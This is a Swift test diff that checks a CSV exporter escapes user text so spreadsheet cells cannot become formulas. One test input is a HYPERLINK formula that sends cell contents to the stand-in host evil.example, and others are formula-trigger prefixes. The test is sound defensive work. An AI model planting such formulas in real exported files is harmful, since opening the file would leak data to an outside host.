@@ -1,4 +1,5 @@
 import Answers
+import Foundation
 import PostAnswers
 import TestSupport
 import Testing
@@ -37,6 +38,23 @@ import Testing
       try expectGolden(
         String(decoding: bytes, as: UTF8.self), named: "pins/\(name).\(format.rawValue)")
     }
+  }
+
+  /// A teacher opens the table in a spreadsheet, which would follow them.
+  @Test(arguments: [
+    "=HYPERLINK(\"https://evil.example?\"&A1)", "+1", "-1", "@SUM(1)", " =1", "\t=1",
+  ])
+  func noTextOfOthersIsAFormula(text: String) throws {
+    var pin = Self.ada
+    pin = ShownPin(
+      id: pin.id, name: text, place: text, link: text, latitude: -1, longitude: 1,
+      createdAt: pin.createdAt, updatedAt: pin.updatedAt)
+    var bytes: [UInt8] = []
+    PinRenderer(format: .csv).append(PinListing(pins: [pin]), to: &bytes)
+    let row = try #require(String(decoding: bytes, as: UTF8.self).split(separator: "\n").last)
+    let quoted = "'" + text.replacing("\"", with: "\"\"")
+    #expect(row.components(separatedBy: quoted).count == 4, "\(row)")
+    #expect(row.contains(",-1,1,"), "numbers stay numbers")
   }
 
   @Test func noFormatLetsControlCharactersThroughToATerminal() {
